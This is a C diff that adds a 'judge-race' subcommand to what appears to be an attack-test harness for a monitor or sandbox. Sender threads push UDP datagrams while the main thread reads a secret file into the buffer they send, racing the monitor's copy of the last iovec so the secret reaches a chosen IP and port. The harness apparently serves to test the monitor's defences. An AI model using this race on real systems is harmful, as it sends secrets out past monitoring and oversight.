@@ -586,6 +586,27 @@ static int netleak(const char *v, const char *ip, int port, const char *secret) 
 
 static void *noop(void *arg) { return arg; }
 
+// judge-race: senders of a UDP datagram whose last iovec is `race_slot`, while
+// the main thread reads a secret into it (see the "judge-race" subcommand).
+static char race_slot[128] = "race-before";
+static char race_pad[1] = {'.'};
+static int race_sock;
+static struct sockaddr_in race_sa;
+static volatile int race_stop;
+static void *race_sender(void *arg) {
+    static struct iovec iov[1024];
+    for (int i = 0; i < 1023; i++) {
+        iov[i].iov_base = race_pad;
+        iov[i].iov_len = 1;
+    }
+    iov[1023].iov_base = race_slot;
+    iov[1023].iov_len = 64;
+    struct msghdr h = {.msg_name = &race_sa, .msg_namelen = sizeof race_sa, .msg_iov = iov, .msg_iovlen = 1024};
+    for (int i = 0; i < 100000 && !race_stop; i++)
+        if (sendmsg(race_sock, &h, 0) < 0) usleep(1000);
+    return arg;
+}
+
 int main(int argc, char **argv) {
     if (argc < 2) {
         fprintf(stderr, "usage: attack NAME [ARGS]\n");
@@ -989,6 +1010,24 @@ int main(int argc, char **argv) {
         long r = ioctl(fd, FS_IOC_SETFLAGS, &add);
         report("setflags append", r);
         if (r == 0) ioctl(fd, FS_IOC_SETFLAGS, &fl);
+        return 0;
+    }
+    if (!strcmp(name, "judge-race") && argc == 5) {
+        // judge-race IP PORT FILE: six threads send "race-before" datagrams
+        // (unconnected UDP, 1024 iovecs: the monitor copies the last one last),
+        // then FILE is read into the buffer they send.
+        race_sock = inet_socket(SOCK_DGRAM, argv[2], atoi(argv[3]), &race_sa);
+        pthread_t t[6];
+        for (int i = 0; i < 6; i++) pthread_create(&t[i], NULL, race_sender, NULL);
+        usleep(50000); // a few dozen datagrams: the server's buffer keeps them all
+        int fd = open(argv[4], O_RDONLY);
+        report("open secret", fd);
+        ssize_t n = fd >= 0 ? read(fd, race_slot, 63) : -1;
+        report("read secret", n);
+        usleep(300000);
+        race_stop = 1;
+        for (int i = 0; i < 6; i++) pthread_join(t[i], NULL);
+        report("send after", sendto(race_sock, "after", 5, 0, (struct sockaddr *)&race_sa, sizeof race_sa));
         return 0;
     }
     if (!strcmp(name, "deleted-reopen") && argc == 5) {
